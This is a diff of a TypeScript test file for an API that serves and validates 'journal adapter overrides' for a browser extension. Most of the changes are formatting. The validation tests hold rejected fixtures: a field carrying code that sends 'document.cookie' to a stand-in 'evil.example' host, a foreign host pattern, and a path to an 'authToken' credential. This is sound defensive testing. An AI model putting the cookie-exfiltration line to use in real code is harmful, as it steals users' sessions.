@@ -23,7 +23,7 @@ describe('journal adapter overrides', () => {
   }
   const served = async () => bodyOf(await t.app.request('/api/v1/journal-overrides'));
   const audit = (action: string) =>
-    t.db.prepare("SELECT actor, details_json FROM audit_log WHERE action = ? ORDER BY id").all(action) as { actor: string; details_json: string }[];
+    t.db.prepare('SELECT actor, details_json FROM audit_log WHERE action = ? ORDER BY id').all(action) as { actor: string; details_json: string }[];
 
   it('serves the empty document before anything is published, without a token', async () => {
     const response = await t.app.request('/api/v1/journal-overrides');
@@ -32,7 +32,13 @@ describe('journal adapter overrides', () => {
     expect(await response.json()).toEqual({ version: 1, adapters: [] });
   });
 
-  const killSwitch = { version: 1, adapters: [{ id: 'sgo', enabled: false }, { id: 'demo', teacherPages: ['^/demo/journal/?$'], requireSelector: null }] };
+  const killSwitch = {
+    version: 1,
+    adapters: [
+      { id: 'sgo', enabled: false },
+      { id: 'demo', teacherPages: ['^/demo/journal/?$'], requireSelector: null },
+    ],
+  };
 
   it('publishes a valid document; it is served with an ETag and revalidates with 304', async () => {
     const result = await publish(killSwitch);
@@ -56,7 +62,14 @@ describe('journal adapter overrides', () => {
     ['a host the extension was not built for', { version: 1, adapters: [{ id: 'sgo', hosts: ['https://evil.example/*'] }] }, 'https://evil.example/*'],
     ['an unknown field', { version: 1, adapters: [{ id: 'sgo', enabled: false, colour: 'red' }] }, 'colour'],
     ['a field that carries code', { version: 1, adapters: [{ id: 'sgo', onDetect: 'fetch("https://evil.example/?" + document.cookie)' }] }, 'onDetect'],
-    ['a global path into credentials', { version: 1, adapters: [{ id: 'sgo', identity: { source: 'pageGlobal', confidence: 'confirmed', global: 'appContext', fields: { name: ['user.authToken'] } } }] }, 'credential'],
+    [
+      'a global path into credentials',
+      {
+        version: 1,
+        adapters: [{ id: 'sgo', identity: { source: 'pageGlobal', confidence: 'confirmed', global: 'appContext', fields: { name: ['user.authToken'] } } }],
+      },
+      'credential',
+    ],
     ['another version', { version: 2, adapters: [] }, 'version'],
   ])('refuses %s, lists the problem and changes nothing', async (_, document, problem) => {
     const before = await t.app.request('/api/v1/journal-overrides');
@@ -71,7 +84,13 @@ describe('journal adapter overrides', () => {
   });
 
   it('names the entry a problem is in', async () => {
-    const result = await publish({ version: 1, adapters: [{ id: 'sgo', enabled: false }, { id: 'eljur', mount: 'sideways' }] });
+    const result = await publish({
+      version: 1,
+      adapters: [
+        { id: 'sgo', enabled: false },
+        { id: 'eljur', mount: 'sideways' },
+      ],
+    });
     expect(result.code).toBe(1);
     expect(result.output).toMatch(/Поправка № 2 \(«eljur»\).*mount/);
     expect(result.output).not.toContain('Поправка № 1');
